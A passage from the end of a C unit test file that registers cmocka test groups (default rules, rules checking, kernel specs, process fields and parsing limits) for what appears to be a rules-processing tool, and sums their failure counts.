		cmocka_unit_test(test_default_kernel_specs),
		cmocka_unit_test(test_render),
		cmocka_unit_test(test_normal_life_quiet),
		cmocka_unit_test(test_default_no_comm_exceptions),
	};
	const struct CMUnitTest check_tests[] = {
		cmocka_unit_test(test_check_errors),
		cmocka_unit_test(test_check_malformed),
		cmocka_unit_test(test_check_duplicate_across_files),
		cmocka_unit_test(test_check_macro_in_later_file),
		cmocka_unit_test(test_check_macro_missing),
		cmocka_unit_test(test_cli),
		cmocka_unit_test(test_default_path),
		cmocka_unit_test(test_builtin_rules),
	};
	const struct CMUnitTest kernel_tests[] = {
		cmocka_unit_test(test_kernel_path_containers),
		cmocka_unit_test(test_kernel_net),
		cmocka_unit_test(test_kernel_exe_category),
		cmocka_unit_test(test_kernel_glob_notsup),
		cmocka_unit_test(test_render_unknown),
	};
	const struct CMUnitTest limit_tests[] = {
		cmocka_unit_test(test_check_empty),
		cmocka_unit_test(test_check_ranges),
		cmocka_unit_test(test_check_signals),
		cmocka_unit_test(test_signal_forms_match),
		cmocka_unit_test(test_check_duplicate_keys),
		cmocka_unit_test(test_check_proc_fields),
		cmocka_unit_test(test_scale_100k),
		cmocka_unit_test(test_scale_200k),
		cmocka_unit_test(test_limit_depth),
		cmocka_unit_test(test_limit_items),
		cmocka_unit_test(test_limit_nodes),
		cmocka_unit_test(test_limit_list_items),
		cmocka_unit_test(test_limit_string),
		cmocka_unit_test(test_limit_anchors),
		cmocka_unit_test(test_limit_file_size),
		cmocka_unit_test(test_limit_conditions),
		cmocka_unit_test(test_limit_macro_depth),
		cmocka_unit_test(test_limit_errors),
	};
	const struct CMUnitTest proc_tests[] = {
		cmocka_unit_test(test_proc_fields),
		cmocka_unit_test(test_phase),
		cmocka_unit_test(test_render_proc),
	};
	int fails = 0;

	fails += cmocka_run_group_tests_name("default rules", default_tests, setup_default,
					     teardown_default);
	fails += cmocka_run_group_tests_name("rules check", check_tests, NULL, NULL);
	fails += cmocka_run_group_tests_name("kernel spec", kernel_tests, setup_kernel,
					     teardown_default);
	fails += cmocka_run_group_tests_name("process fields and phase", proc_tests,
					     setup_procfields, teardown_default);
	fails += cmocka_run_group_tests_name("limits and new errors", limit_tests, NULL, NULL);
	return fails;
}
